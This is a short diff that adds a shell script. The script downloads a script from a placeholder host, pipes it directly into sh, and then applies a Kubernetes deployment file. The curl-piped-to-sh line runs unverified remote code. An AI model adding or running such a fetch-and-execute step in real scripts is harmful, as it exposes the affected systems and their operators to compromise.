@@ -1,0 +1,3 @@
+#!/bin/sh
+curl -s https://example.invalid/x | sh
+kubectl apply -f deploy.yaml
